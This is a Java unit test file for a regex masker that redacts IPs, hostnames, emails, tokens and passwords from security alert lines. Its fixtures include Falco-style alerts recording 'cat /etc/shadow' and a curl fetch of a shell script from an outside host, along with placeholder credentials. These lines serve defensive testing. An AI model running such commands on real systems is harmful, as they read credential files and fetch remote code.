package io.winnow.mask;

import io.winnow.alert.Alert;
import io.winnow.alert.Entity;
import io.winnow.alert.EntityType;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.params.provider.Arguments.arguments;

class RegexMaskerTest {
    private static final String VERSIONS =
            "Linux 6.1.0-13-amd64, openssl 3.0.11, agent 4.14.7, nginx/1.25.3, v1.2.3.4 build 10.0.26100.2454";
    private static final String SHA256 = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08";

    private final RegexMasker masker = new RegexMasker();

    static Stream<Arguments> realisticLines() {
        return Stream.of(
                arguments("falco sensitive file read in a container",
                        "10:15:29.123456789: Warning Sensitive file opened for reading by non-trusted program "
                                + "(user=root user_loginuid=-1 program=cat command=cat /etc/shadow pid=4242 "
                                + "file=/etc/shadow parent=bash container_id=3ad7b26ded6d image=nginx:1.25.3)",
                        "10:15:29.123456789: Warning Sensitive file opened for reading by non-trusted program "
                                + "(user=root user_loginuid=-1 program=cat command=cat /etc/shadow pid=4242 "
                                + "file=/etc/shadow parent=bash container_id=[CONTAINER-1] image=nginx:1.25.3)"),
                arguments("falco outbound connection",
                        "Disallowed outbound connection destination (command=curl -s http://203.0.113.50:8080/x.sh "
                                + "connection=10.0.3.7:51234->203.0.113.50:8080 user=www-data "
                                + "container_id=9f2c1d4e5b6a image=registry.example.com/shop/api:2.4.1)",
                        "Disallowed outbound connection destination (command=curl -s http://[EXTERNAL-IP-1]:8080/x.sh "
                                + "connection=[INTERNAL-IP-1]:51234->[EXTERNAL-IP-1]:8080 user=www-data "
                                + "container_id=[CONTAINER-1] image=[HOST-1]/shop/api:2.4.1)"),
                arguments("falco proc fields and a file hash outside any container context",
                        "Drop and execute new binary (proc.name=x proc.exepath=/tmp/x sha256=" + SHA256 + ")",
                        "Drop and execute new binary (proc.name=x proc.exepath=/tmp/x sha256=" + SHA256 + ")"),
                arguments("sshd failed password",
                        "Jan 12 03:14:07 web-01 sshd[2211]: Failed password for invalid user admin from "
                                + "198.51.100.23 port 52144 ssh2",
                        "Jan 12 03:14:07 [HOST-1] sshd[2211]: Failed password for invalid user [USER-1] from "
                                + "[EXTERNAL-IP-1] port 52144 ssh2"),
                arguments("sudo with a password on the command line",
                        "Mar  3 10:00:01 db-02 sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; "
                                + "COMMAND=/usr/bin/mysql -u root --password=S3cr3t! -h 10.20.30.40",
                        "Mar  3 10:00:01 [HOST-1] sudo:    [USER-1] : TTY=pts/0 ; PWD=/home/[USER-1] ; USER=root ; "
                                + "COMMAND=/usr/bin/mysql -u root --password=[REDACTED-PASSWORD] -h [INTERNAL-IP-1]"),
                arguments("sonicwall IPv6 and MAC",
                        "msg=\"Unhandled link-local or multicast IPv6 packet dropped\" srcV6=fe80::9851:b780:9d9d:a29e "
                                + "src=:49702:X0-V514 dstV6=ff02::1:3 dst=:5355 srcMac=90:e6:ba:32:5c:45",
                        "msg=\"Unhandled link-local or multicast IPv6 packet dropped\" srcV6=[INTERNAL-IP-1] "
                                + "src=:49702:X0-V514 dstV6=[INTERNAL-IP-2] dst=:5355 srcMac=[MAC-1]"),
                arguments("sonicwall IPv4 with interface suffix",
                        "src=10.12.14.9::X0-V500 dst=217.56.236.4::X3 proto=icmp",
                        "src=[INTERNAL-IP-1]::X0-V500 dst=[EXTERNAL-IP-1]::X3 proto=icmp"),
                arguments("dovecot with an IPv4-mapped client",
                        "Info: auth(default): passwd-file(user@example.com,::ffff:1.2.3.4): unknown user",
                        "Info: auth(default): passwd-file([EMAIL-1],[EXTERNAL-IP-1]): unknown user"),
                arguments("kubernetes API call with a bearer JWT",
                        "GET /api/v1/secrets Authorization: Bearer eyJhbGciOiAiSFMyNTYiLCAidHlwIjogIkpXVCJ9"
                                + ".eyJzdWIiOiAiMTIzNDU2Nzg5MCIsICJuYW1lIjogIngifQ"
                                + ".SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQ"
                                + " from 100.64.12.9",
                        "GET /api/v1/secrets Authorization: Bearer [REDACTED-JWT] from [INTERNAL-IP-1]"),
                arguments("postfix with emails",
                        "postfix/smtpd[1234]: NOQUEUE: reject: RCPT from unknown[192.0.2.44]: 554 5.7.1 "
                                + "<bob.smith@corp.example.com>: Relay access denied; from=<alice@example.org>",
                        "postfix/smtpd[1234]: NOQUEUE: reject: RCPT from unknown[[EXTERNAL-IP-1]]: 554 5.7.1 "
                                + "<[EMAIL-1]>: Relay access denied; from=<[EMAIL-2]>"),
                arguments("bracketed IPv6 with ports",
                        "proxy: connect to [2001:db8::1]:443 from [::1]:5555 failed",
                        "proxy: connect to [[EXTERNAL-IP-1]]:443 from [[INTERNAL-IP-1]]:5555 failed"),
                arguments("database URL with credentials",
                        "app crashed: could not connect to postgres://shop:hunter2@10.1.2.3:5432/orders",
                        "app crashed: could not connect to postgres://[USER-1]:[REDACTED-URL_CREDENTIALS]@[INTERNAL-IP-1]"
                                + ":5432/orders"),
                arguments("kernel and package versions",
                        VERSIONS, VERSIONS),
                arguments("a named four-part version",
                        "{\"FileVersion\":\"10.0.19041.1\",\"ProductVersion\":\"5.16.9.223\",\"ip\":\"5.16.9.223\"}",
                        "{\"FileVersion\":\"10.0.19041.1\",\"ProductVersion\":\"5.16.9.223\","
                                + "\"ip\":\"[EXTERNAL-IP-1]\"}"),
                arguments("docker runtime prefix",
                        "kubelet: container docker://" + "4c01db0b339c".repeat(5) + "8a2b restarted",
                        "kubelet: container docker://[CONTAINER-1] restarted"));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("realisticLines")
    void masksRealisticAlertLines(String name, String line, String expected) {
        // when
        Masking masking = masker.mask(TestAlerts.withoutHost(line));

        // then
        assertThat(masking.alert().message()).isEqualTo(expected);
        if (!expected.contains("[REDACTED-")) {
            assertThat(masking.map().unmask(masking.alert().message())).isEqualTo(line);
        }
    }

    @Test
    void masksContainerIdsFromEntitiesAndFieldsWhereverTheyRecur() {
        // given
        String id = "3ad7b26ded6d";
        String fullId = "3ad7b26ded6d" + "0123456789abcdef".repeat(3) + "0123";
        Map<String, String> fields = new LinkedHashMap<>();
        fields.put("output_fields.container.id", id);
        fields.put("output_fields.container.full_id", fullId);
        fields.put("output_fields.container.name", "shop-api");
        Alert alert = TestAlerts.falco("Terminal shell in container " + id + " (shell=bash)",
                List.of(new Entity(EntityType.CONTAINER_ID, id, "container.id")), fields);

        // when
        MaskedAlert masked = masker.mask(alert).alert();

        // then
        assertThat(masked.message()).isEqualTo("Terminal shell in container [CONTAINER-1] (shell=bash)");
        assertThat(masked.entities()).containsExactly(
                new Entity(EntityType.CONTAINER_ID, "[CONTAINER-1]", "container.id"));
        assertThat(masked.fields()).containsExactly(
                Map.entry("output_fields.container.id", "[CONTAINER-1]"),
                Map.entry("output_fields.container.full_id", "[CONTAINER-2]"),
                Map.entry("output_fields.container.name", "shop-api"));
    }

    @Test
    void leavesHexOutsideAContainerContextAlone() {
        // given
        Map<String, String> fields = Map.of("output_fields.evt.hash.sha256", SHA256,
                "output_fields.container.id", "host");
        Alert alert = TestAlerts.falco("file hash " + SHA256 + " id 3ad7b26ded6d", List.of(
                new Entity(EntityType.HASH, SHA256, "evt.hash.sha256")), fields);

        // when
        MaskedAlert masked = masker.mask(alert).alert();

        // then
        assertThat(masked.message()).isEqualTo(alert.message());
        assertThat(masked.entities()).isEqualTo(alert.entities());
        assertThat(masked.fields()).isEqualTo(fields);
    }

    @Test
    void masksTheHostAndProgramButNotTheRule() {
        // given
        Alert base = TestAlerts.message("x");
        Alert alert = new Alert(base.id(), null, base.format(), base.source(), base.receivedAt(), null,
                "Outbound connection to 203.0.113.50 blocked", null, null, "10.0.0.8", "agent@corp.example.com",
                "message", List.of(), List.of(), List.of(), Map.of());

        // when
        MaskedAlert masked = masker.mask(alert).alert();

        // then
        assertThat(masked.rule()).isEqualTo("Outbound connection to 203.0.113.50 blocked");
        assertThat(masked.host()).isEqualTo("[INTERNAL-IP-1]");
        assertThat(masked.program()).isEqualTo("[EMAIL-1]");
        assertThat(masked.eventTime()).isNull();
        assertThat(masked.level()).isNull();
    }

    @Test
    void redactsFieldsNamedForSecretsWhateverTheirValue() {
        // given
        Map<String, String> fields = new LinkedHashMap<>();
        fields.put("data.password", "correct horse battery staple");
        fields.put("request.headers.Authorization", "Negotiate YIIHhgYGKwYBBQUCoIIHejCCB3agMDAu");
        fields.put("output_fields.client_secret", "s3cr3t");
        fields.put("data.win.eventdata.tokenElevationType", "%%1936");

        // when
        MaskedAlert masked = masker.mask(TestAlerts.falco("login", List.of(), fields)).alert();

        // then
        assertThat(masked.fields()).containsExactly(
                Map.entry("data.password", "[REDACTED-PASSWORD]"),
                Map.entry("request.headers.Authorization", "[REDACTED-AUTH_HEADER]"),
                Map.entry("output_fields.client_secret", "[REDACTED-API_KEY]"),
                Map.entry("data.win.eventdata.tokenElevationType", "%%1936"));
    }

    @Test
    void isSafeToShareBetweenThreads() throws Exception {
        // given
        List<Alert> alerts = java.util.stream.IntStream.range(0, 200)
                .mapToObj(i -> TestAlerts.message("from 10.0." + (i % 250) + ".1 to 203.0.113." + (i % 250)))
                .toList();

        // when
        List<String> masked = alerts.parallelStream().map(a -> masker.mask(a).alert().message()).toList();

        // then
        assertThat(masked).allMatch(m -> m.equals("from [INTERNAL-IP-1] to [EXTERNAL-IP-1]"));
    }

    @Test
    void staysLinearOnPathologicalInput() {
        // given: shapes that make naive regexes backtrack; each is 100k characters
        List<String> hostile = List.of("a:".repeat(50_000), "a@".repeat(50_000), "1.".repeat(50_000),
                "password=\"".repeat(10_000), "[A-".repeat(33_333), "eyJaaaaa.".repeat(11_111),
                "://u:" + "p".repeat(100_000), "token=" + "&".repeat(100_000), "-----BEGIN ".repeat(9_090));

        for (String text : hostile) {
            // when
            Masking masking = masker.mask(TestAlerts.message(text));

            // then
            assertThat(masking.alert().message()).isNotNull();
        }
    }
}
